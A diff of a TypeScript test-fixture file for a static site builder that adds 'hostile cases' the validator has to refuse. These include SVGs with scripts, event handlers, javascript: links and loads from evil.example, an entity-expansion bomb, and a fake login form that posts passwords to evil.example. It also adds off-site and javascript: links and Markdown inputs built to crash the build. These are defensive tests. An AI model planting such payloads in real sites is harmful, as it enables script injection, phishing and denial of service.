@@ -1,4 +1,5 @@
 import { readFile, writeFile, mkdir, symlink } from 'node:fs/promises';
+import { readdirSync, readFileSync } from 'node:fs';
 import path from 'node:path';
 
 /**
@@ -42,6 +43,8 @@ export interface FailsCase {
   mentions?: string;
   /** Also run `build` and check that the output folder is left as it was. */
   build?: boolean;
+  /** The problem is the whole file (a file that must not be there): line and column 0, as for every such message. */
+  wholeFile?: boolean;
 }
 
 export type HostileCase = BuildsCase | FailsCase;
@@ -108,6 +111,31 @@ const validFrontMatter = (title: string): string[] => [
 
 /** 10,000 levels of nesting. */
 const DEPTH = 10_000;
+
+const root = path.resolve(import.meta.dirname, '../..');
+
+/**
+ * Every id the site's own markup writes as a literal (`id="page-data"`, `id="main"`, ...), read from the components
+ * under site/, plus one made from a template (`package-<id>`): a post has a heading for each, and no page may then
+ * hold an id twice or fail to hydrate.
+ */
+export function siteMarkupIds(): string[] {
+  const ids = new Set<string>(['package-basic']);
+  const walk = (dir: string) => {
+    for (const entry of readdirSync(dir, { withFileTypes: true })) {
+      const abs = path.join(dir, entry.name);
+      if (entry.isDirectory()) walk(abs);
+      else if (entry.name.endsWith('.tsx')) for (const m of readFileSync(abs, 'utf8').matchAll(/\bid="([a-z0-9-]+)"/g)) ids.add(m[1]!);
+    }
+  };
+  walk(path.join(root, 'site'));
+  return [...ids].sort();
+}
+
+/** An SVG with `inner` inside, otherwise a plain drawing. */
+const svg = (inner: string, head = '') => `${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">\n  <rect width="10" height="10"/>\n  ${inner}\n</svg>\n`;
+/** A Markdown body line put into the spring post before its first paragraph. */
+const inPost = (markdown: string): Apply => sub(POST, 'Spring is the best time of year', `${markdown}\n\nSpring is the best time of year`);
 
 export const hostileCases: HostileCase[] = [
   // ------------------------------------------------------------------ builds: hostile text in every kind of field
@@ -217,13 +245,9 @@ export const hostileCases: HostileCase[] = [
     visible: ['HX19 raw html follows.'],
   },
   {
-    id: 'markdown-dangerous-links', what: 'javascript:, vbscript: and data: links and images in Markdown', expect: 'builds',
-    apply: sub(POST, '## Start at the Top: Roof, Gutters and Drainage', [
-      '[HX20 js link](javascript:window.__pwned=20) [HX20 vb link](vbscript:msgbox(20)) [HX20 data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgyMCk8L3NjcmlwdD4=)',
-      '', '![HX20 image](javascript:alert(20)) <javascript:alert(20)> [HX20 ok](https://example.com/)', '',
-      '## Start at the Top: Roof, Gutters and Drainage',
-    ].join('\n')),
-    visible: ['HX20 js link', 'HX20 vb link', 'HX20 data link', 'HX20 ok'],
+    id: 'markdown-link-text-kept', what: 'link text around an https link in Markdown', expect: 'builds',
+    apply: sub(POST, '## Start at the Top: Roof, Gutters and Drainage', '[HX20 ok](https://example.com/) and [HX20 site](/contact)\n\n## Start at the Top: Roof, Gutters and Drainage'),
+    visible: ['HX20 ok and HX20 site'],
   },
   {
     id: 'markdown-code-breakout', what: '</script> and <!-- as Markdown code and text', expect: 'builds',
@@ -234,9 +258,9 @@ export const hostileCases: HostileCase[] = [
     id: 'legal-page-markdown', what: 'raw HTML and a javascript: link in a legal page body and front matter', expect: 'builds',
     apply: all(
       sub(PAGE, 'title: Privacy Policy', `title: ${q(`HX22 Privacy ${script(22)}`)}`),
-      sub(PAGE, '## The Short Version', `<script>window.__pwned=22</script>\n\n[HX22 link](javascript:alert(22))\n\n## The Short Version`),
+      sub(PAGE, '## The Short Version', `<script>window.__pwned=22</script>\n\nHX22 text after the script.\n\n## The Short Version`),
     ),
-    visible: [`HX22 Privacy ${script(22)}`, 'HX22 link'],
+    visible: [`HX22 Privacy ${script(22)}`, 'HX22 text after the script.'],
   },
   {
     id: 'emoji', what: 'emoji, combining marks and ZWJ sequences', expect: 'builds',
@@ -252,12 +276,6 @@ export const hostileCases: HostileCase[] = [
     id: 'line-separators', what: 'U+2028/U+2029 and zero-width characters (break naive inline-script JSON)', expect: 'builds',
     apply: sub('services/plumbing.yaml', 'name: Bathroom Faucet Replacement', `name: ${q('HX25 Bath\u2028room\u2029 Fau\u200Bcet\uFEFF')}`),
     visible: ['HX25 Bath'],
-  },
-  {
-    id: 'huge-line', what: 'a 1 MB line in a Markdown body', expect: 'builds',
-    apply: sub('posts/kitchen-renovation.md', 'This guide covers the planning', `HX26 huge line: ${'lorem ipsum <b>dolor</b> '.repeat(Math.ceil(1_048_576 / 25))}\n\nThis guide covers the planning`),
-    // Inline raw HTML (<b>) is dropped from Markdown; the words stay.
-    visible: ['HX26 huge line: lorem ipsum dolor lorem ipsum dolor'],
   },
   {
     id: 'four-megabyte-file', what: 'a 4 MB YAML file (content plus a comment block)', expect: 'builds',
@@ -321,6 +339,19 @@ export const hostileCases: HostileCase[] = [
     visible: [],
   },
 
+  {
+    id: 'headings-named-like-site-ids', what: 'a post whose headings are every id the site\'s own markup uses (## Page Data, ## Icon Data, ## Root, ## Main, ...)', expect: 'builds',
+    apply: async (dir) => put('posts/hostile-headings.md', post(validFrontMatter('HX40 headings'), [
+      'HX40 headings follow. [HX40 jump to page data](#page-data)', '',
+      ...siteMarkupIds().flatMap((id) => [`## ${id.replace(/-/g, ' ')}`, '', `Text under ${id}.`, '']),
+    ].join('\n')))(dir),
+    visible: ['HX40 headings follow. HX40 jump to page data'],
+  },
+  {
+    id: 'dotfile-in-images', what: 'a hidden script file in data/images (never published)', expect: 'builds',
+    apply: put('images/.hidden-payload.js', 'window.__pwned = 41;\n'),
+    visible: [],
+  },
   // ------------------------------------------------------------------ fails: refused with file, line, column, rule
   {
     id: 'billion-laughs', what: 'a billion-laughs alias bomb', expect: 'fails', build: true,
@@ -559,6 +590,229 @@ export const hostileCases: HostileCase[] = [
       await writeFile(file, Buffer.concat([await readFile(file), Buffer.from([0x00, 0xff, 0xfe, 0x00, 0x89, 0x50])]));
     },
     file: 'pages/terms.md', rule: 'file/encoding',
+  },
+
+  // ------------------------------------------------------------------ fails: files in data/images
+  {
+    id: 'svg-script', what: 'an SVG with a <script> element', expect: 'fails', build: true,
+    apply: put('images/hostile/script.svg', svg('<script>window.__pwned = 50</script>')),
+    file: 'images/hostile/script.svg', rule: 'image/svg-active', line: 3, mentions: '<script>',
+  },
+  {
+    id: 'svg-namespaced-script', what: 'an SVG with a namespace-prefixed <svg:script>', expect: 'fails',
+    apply: put('images/hostile/ns-script.svg', '<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(51)</svg:script></svg:svg>\n'),
+    file: 'images/hostile/ns-script.svg', rule: 'image/svg-active', line: 1, mentions: '<svg:script>',
+  },
+  {
+    id: 'svg-event-handler', what: 'an SVG with an onload handler', expect: 'fails',
+    apply: put('images/hostile/onload.svg', svg('<circle r="5" onload="window.__pwned = 52"/>')),
+    file: 'images/hostile/onload.svg', rule: 'image/svg-active', line: 3, mentions: 'onload',
+  },
+  {
+    id: 'svg-foreign-object', what: 'an SVG with a foreignObject holding HTML', expect: 'fails',
+    apply: put('images/hostile/foreign.svg', svg('<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"></iframe></foreignObject>')),
+    file: 'images/hostile/foreign.svg', rule: 'image/svg-active', line: 3, mentions: 'foreignObject',
+  },
+  {
+    id: 'svg-javascript-link', what: 'an SVG link to javascript:, with spaces in the scheme', expect: 'fails',
+    apply: put('images/hostile/js-link.svg', svg('<a xlink:href=" java\tscript:alert(53)"><text>click</text></a>')),
+    file: 'images/hostile/js-link.svg', rule: 'image/svg-active', line: 3, mentions: 'javascript:',
+  },
+  {
+    id: 'svg-external-image', what: 'an SVG that loads a tracking pixel from another host', expect: 'fails',
+    apply: put('images/hostile/pixel.svg', svg('<image href="https://tracker.example/p.png" width="1" height="1"/>')),
+    file: 'images/hostile/pixel.svg', rule: 'image/svg-active', line: 3, mentions: 'https://tracker.example/p.png',
+  },
+  {
+    id: 'svg-external-use', what: 'an SVG <use> of a sprite on another host', expect: 'fails',
+    apply: put('images/hostile/use.svg', svg('<use href="//evil.example/sprite.svg#icon"/>')),
+    file: 'images/hostile/use.svg', rule: 'image/svg-active', line: 3,
+  },
+  {
+    id: 'svg-css-import', what: 'an SVG <style> that imports CSS from another host', expect: 'fails',
+    apply: put('images/hostile/import.svg', svg('<style>@import url("https://evil.example/x.css"); rect { fill: url(https://evil.example/f.svg#g) }</style>')),
+    file: 'images/hostile/import.svg', rule: 'image/svg-active', line: 3, mentions: '@import',
+  },
+  {
+    id: 'svg-entity-bomb', what: 'an SVG with an entity expansion bomb in its DOCTYPE', expect: 'fails',
+    apply: put('images/hostile/entities.svg', svg('<text>&e;</text>', `<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "lollollollol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY e "&b;&b;&b;&b;&b;&b;&b;&b;">]>\n`)),
+    file: 'images/hostile/entities.svg', rule: 'image/svg-active', line: 2, mentions: 'entities',
+  },
+  {
+    id: 'svg-animated-href', what: 'an SVG <set> that turns a link into javascript: while shown', expect: 'fails',
+    apply: put('images/hostile/set.svg', svg('<a><set attributeName="href" to="javascript:alert(56)"/><text>x</text></a>')),
+    file: 'images/hostile/set.svg', rule: 'image/svg-active', line: 3, mentions: '<set>',
+  },
+  {
+    id: 'svg-xml-stylesheet', what: 'an SVG that loads an XSLT/CSS stylesheet with <?xml-stylesheet?>', expect: 'fails',
+    apply: put('images/hostile/xsl.svg', svg('', '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>\n')),
+    file: 'images/hostile/xsl.svg', rule: 'image/svg-active', line: 1, mentions: 'stylesheet',
+  },
+  {
+    id: 'script-file-in-images', what: 'a .js file dropped into data/images (same-origin script under the CSP)', expect: 'fails', build: true, wholeFile: true,
+    apply: put('images/payload.js', 'window.__pwned = 57;\n'),
+    file: 'images/payload.js', rule: 'image/not-an-image',
+  },
+  {
+    id: 'html-file-in-images', what: 'an HTML page dropped into data/images', expect: 'fails', wholeFile: true,
+    apply: put('images/team/login.html', '<!doctype html><form action="https://evil.example/"><input name="password"></form><script>window.__pwned = 58</script>\n'),
+    file: 'images/team/login.html', rule: 'image/not-an-image',
+  },
+  {
+    id: 'svg-renamed-as-xml', what: 'an SVG saved with a .xml extension', expect: 'fails', wholeFile: true,
+    apply: put('images/hostile/drawing.xml', svg('<script>alert(59)</script>')),
+    file: 'images/hostile/drawing.xml', rule: 'image/not-an-image',
+  },
+
+  // ------------------------------------------------------------------ fails: links that leave the site or lead nowhere
+  {
+    id: 'nav-protocol-relative', what: 'a protocol-relative navigation link (//evil.example)', expect: 'fails', build: true,
+    apply: sub('navigation.yaml', '- { label: Contact, href: /contact }', '- { label: Contact, href: "//evil.example/contact" }'),
+    file: 'navigation.yaml', rule: 'link/off-site', mentions: '//evil.example/contact',
+  },
+  {
+    id: 'nav-backslash', what: 'a backslash navigation link (/\\evil.example)', expect: 'fails',
+    apply: sub('navigation.yaml', '- { label: Contact, href: /contact }', '- { label: Contact, href: "/\\\\evil.example" }'),
+    file: 'navigation.yaml', rule: 'link/off-site',
+  },
+  {
+    id: 'footer-protocol-relative', what: 'a protocol-relative footer link, shown on every page', expect: 'fails',
+    apply: sub('navigation.yaml', '\n    - { label: Plumbing, href: /services/plumbing }', '\n    - { label: Plumbing, href: "//evil.example/plumbing" }'),
+    file: 'navigation.yaml', rule: 'link/off-site', line: 77,
+  },
+  {
+    id: 'nav-tab-in-path', what: 'a navigation link with a tab between its slashes (/<tab>/evil.example)', expect: 'fails',
+    apply: sub('navigation.yaml', '- { label: Contact, href: /contact }', '- { label: Contact, href: "/\\t/evil.example" }'),
+    file: 'navigation.yaml', rule: 'link/off-site',
+  },
+  {
+    id: 'nav-unknown-route', what: 'a navigation link to a page that does not exist', expect: 'fails',
+    apply: sub('navigation.yaml', '- { label: Contact, href: /contact }', '- { label: Contact, href: /contcat }'),
+    file: 'navigation.yaml', rule: 'link/unknown-path', mentions: 'did you mean "/contact"',
+  },
+  {
+    id: 'markdown-protocol-relative', what: 'a protocol-relative link in a post', expect: 'fails', build: true,
+    apply: inPost('[HX60 pay here](//evil.example/pay)'),
+    file: POST, rule: 'link/off-site', line: 10,
+  },
+  {
+    id: 'markdown-backslash', what: 'a backslash link in a post', expect: 'fails',
+    apply: inPost('[HX61](/\\evil.example)'),
+    file: POST, rule: 'link/off-site', line: 10,
+  },
+  {
+    id: 'markdown-entity-slashes', what: 'a link whose slashes are written as entities (&#47;&#47;evil.example)', expect: 'fails',
+    apply: inPost('[HX62](&#47;&#47;evil.example)'),
+    file: POST, rule: 'link/off-site', line: 10,
+  },
+  {
+    id: 'markdown-reference-definition', what: 'a protocol-relative reference definition in a legal page', expect: 'fails',
+    apply: sub(PAGE, '## The Short Version', '[HX63 policy][p]\n\n[p]: //evil.example/policy\n\n## The Short Version'),
+    file: PAGE, rule: 'link/off-site',
+  },
+  {
+    id: 'markdown-image-off-site', what: 'a Markdown image from another host written as //host', expect: 'fails',
+    apply: inPost('![HX64](//evil.example/pixel.png)'),
+    file: POST, rule: 'link/off-site', line: 10,
+  },
+  {
+    id: 'markdown-external-image', what: 'a tracking pixel from another host as a Markdown image', expect: 'fails',
+    apply: inPost('![HX71](https://tracker.example/pixel.png)'),
+    file: POST, rule: 'link/external-image', line: 10, mentions: 'data/images',
+  },
+  {
+    id: 'markdown-javascript-link', what: 'javascript:, vbscript: and data: links in a post', expect: 'fails',
+    apply: inPost('[HX65 js](javascript:window.__pwned=65) [vb](vbscript:msgbox(65)) [data](data:text/html;base64,PHNjcmlwdD4=)'),
+    file: POST, rule: 'link/scheme', line: 10, mentions: '"javascript:"',
+  },
+  {
+    id: 'markdown-javascript-link-legal', what: 'a javascript: link in a legal page', expect: 'fails',
+    apply: sub(PAGE, '## The Short Version', '[HX66 link](javascript:alert(66))\n\n## The Short Version'),
+    file: PAGE, rule: 'link/scheme',
+  },
+  {
+    id: 'markdown-other-scheme', what: 'an sms: and an ftp: link in a post', expect: 'fails',
+    apply: inPost('[HX67](ftp://evil.example/x) [text](sms:+15555550100)'),
+    file: POST, rule: 'link/scheme', line: 10,
+  },
+  {
+    id: 'markdown-unknown-route', what: 'a post link to a page that does not exist', expect: 'fails',
+    apply: inPost('[HX68](/servcies/plumbing)'),
+    file: POST, rule: 'link/unknown-path', line: 10, mentions: '/services/plumbing',
+  },
+  {
+    id: 'markdown-unknown-package', what: 'a post link to an unknown ?package= id', expect: 'fails',
+    apply: inPost('[HX69](/packages?package=premum)'),
+    file: POST, rule: 'link/unknown-query', line: 10, mentions: 'did you mean "premium"',
+  },
+  {
+    id: 'markdown-unknown-fragment', what: 'a post link to a heading that is not on the target post', expect: 'fails',
+    apply: inPost('[HX70](/blog/kitchen-renovation#the-order-of-wrok)'),
+    file: POST, rule: 'link/fragment', line: 10, mentions: 'the-order-of-work',
+  },
+
+  // ------------------------------------------------------------------ fails: third-party origins
+  {
+    id: 'map-embed-untrusted', what: 'a map embed URL on a host not in trustedOrigins (framed on the page, CSP would widen)', expect: 'fails', build: true,
+    apply: sub('site.yaml', 'embedUrl: "https://www.google.com/maps?q=Colorado+Springs,+CO&output=embed"', 'embedUrl: "https://maps.evil.example/embed"'),
+    file: 'site.yaml', rule: 'origin/untrusted', mentions: 'links.maps.colorado.embedUrl',
+  },
+  {
+    id: 'policy-script-untrusted', what: 'a policy service script on a host not in trustedOrigins', expect: 'fails',
+    apply: sub('site.yaml', '  policyService: null', '  policyService:\n    scriptUrl: https://cdn.evil.example/loader.js\n    frameUrl: { privacy: "https://www.google.com/p", terms: "https://www.google.com/t", disclaimer: "https://www.google.com/d" }'),
+    file: 'site.yaml', rule: 'origin/untrusted', mentions: 'links.policyService.scriptUrl',
+  },
+  {
+    id: 'form-endpoint-untrusted', what: 'a form endpoint on a host not in trustedOrigins', expect: 'fails',
+    apply: sub('site.yaml', '  provider: netlify', '  provider: endpoint\n  endpoint: { url: "https://collect.evil.example/f/1", encoding: json, acceptsFiles: false }'),
+    file: 'site.yaml', rule: 'forms/untrusted-origin', mentions: 'https://collect.evil.example',
+  },
+
+  // ------------------------------------------------------------------ fails: Markdown that would crash or stall the build
+  {
+    id: 'markdown-nested-quotes', what: '1,500 nested > in a post (1.5 KB; a stack overflow before)', expect: 'fails', build: true,
+    apply: inPost(`${'>'.repeat(1500)} deep`),
+    file: POST, rule: 'markdown/too-deep', line: 10, mentions: 'blockquotes nested 1,500 deep; at most 20',
+  },
+  {
+    id: 'markdown-nested-lists', what: 'lists nested 1,000 deep by indentation', expect: 'fails',
+    apply: inPost(Array.from({ length: 1000 }, (_, i) => `${'  '.repeat(i)}- item`).join('\n')),
+    file: POST, rule: 'markdown/too-deep', line: 1009, mentions: 'lists nested 1,000 deep',
+  },
+  {
+    id: 'markdown-huge-nested-lists', what: 'a 1.9 MB post of deeply nested lists (105 s, then a crash, before)', expect: 'fails', build: true,
+    apply: put('posts/huge-lists.md', post(validFrontMatter('Huge lists'), Array.from({ length: 1900 }, () => Array.from({ length: 30 }, (_, i) => `${'  '.repeat(i)}- x`).join('\n')).join('\n').slice(0, 1_900_000))),
+    file: 'posts/huge-lists.md', rule: 'markdown/too-large', line: 10,
+  },
+  {
+    id: 'markdown-emphasis-run', what: '20,000 nested emphasis markers in one paragraph', expect: 'fails',
+    apply: inPost(`${'*a '.repeat(20_000)}b`),
+    file: POST, rule: 'markdown/too-many-markers', line: 10,
+  },
+  {
+    id: 'markdown-backtick-runs', what: '10,000 backticks in runs of every length', expect: 'fails',
+    apply: inPost(Array.from({ length: 1400 }, (_, i) => `${'`'.repeat((i % 14) + 1)}${i % 50 === 49 ? '\n' : ' '}`).join('')),
+    file: POST, rule: 'markdown/too-many-markers', line: 10, mentions: 'backticks',
+  },
+  {
+    id: 'markdown-brackets', what: '100,000 [ in a post', expect: 'fails',
+    apply: inPost(Array.from({ length: 20 }, () => '['.repeat(5000)).join('\n')),
+    file: POST, rule: 'markdown/too-many-markers', line: 10, mentions: '"[" characters',
+  },
+  {
+    id: 'markdown-huge-table', what: 'a 20,000-row table', expect: 'fails',
+    apply: inPost(Array.from({ length: 20_000 }, (_, i) => `| ${i} | a | b | c |`).join('\n')),
+    file: POST, rule: 'markdown/too-large',
+  },
+  {
+    id: 'markdown-huge-line', what: 'a 1 MB line in a post', expect: 'fails', build: true,
+    apply: sub('posts/kitchen-renovation.md', 'This guide covers the planning', `HX26 huge line: ${'lorem ipsum <b>dolor</b> '.repeat(Math.ceil(1_048_576 / 25))}\n\nThis guide covers the planning`),
+    file: 'posts/kitchen-renovation.md', rule: 'markdown/line-too-long', mentions: 'at most 10,000',
+  },
+  {
+    id: 'markdown-angle-brackets', what: '100,000 < in a legal page', expect: 'fails',
+    apply: sub(PAGE, '## The Short Version', `${Array.from({ length: 10 }, () => '<'.repeat(4000)).join('\n')}\n\n## The Short Version`),
+    file: PAGE, rule: 'markdown/too-many-markers', mentions: '"<" characters',
   },
 ];
 
